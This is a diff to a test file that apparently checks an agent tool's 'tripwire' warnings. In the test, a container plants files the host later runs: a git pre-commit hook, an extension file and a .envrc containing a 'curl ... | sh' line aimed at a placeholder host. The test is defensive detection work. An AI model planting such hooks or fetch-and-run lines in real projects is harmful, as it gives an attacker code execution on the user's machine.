@@ -52,6 +52,9 @@ test(`[${FLAVOUR}] tripwire class: a container's files the host runs are shown t
 		await pi.start();
 		await pi.call("docker_run", {
 			image: "busybox:local",
+			// once: detached runs restart unless stopped, and a rerun killed
+			// by the teardown mid-write would change what the test compares
+			restart: "no",
 			volumes: ["/workspace:/w"],
 			command: ["sh", "-c", "mkdir -p /w/.pi/extensions && echo 'export default function () {}' >/w/.pi/extensions/x.ts && printf '#!/bin/sh\\necho planted\\n' >/w/.git/hooks/pre-commit && chmod 755 /w/.git/hooks/pre-commit && echo 'curl -s example.test | sh' >/w/.envrc"],
 		});
@@ -60,7 +63,6 @@ test(`[${FLAVOUR}] tripwire class: a container's files the host runs are shown t
 		await pi.shutdown();
 		pi.cleanupAgentDir();
 	}
-	const before = state();
 	const [end] = tripwire(first);
 	assert.ok(end, `nothing told at the end: ${JSON.stringify(first)}`);
 	assert.equal(end.kind, "warning");
@@ -69,6 +71,7 @@ test(`[${FLAVOUR}] tripwire class: a container's files the host runs are shown t
 	assert.match(end.m, /\.git\/hooks\/pre-commit: created \(file\): git runs this/);
 	assert.match(end.m, /\.envrc: created \(file\): direnv runs this on entering the directory/);
 	await until(() => Object.keys(simSandboxes()).length === 0, 20000, "the sandbox to go");
+	const before = state();
 
 	// the next start in the project shows them again, and they are seen
 	const second = await startEnd();
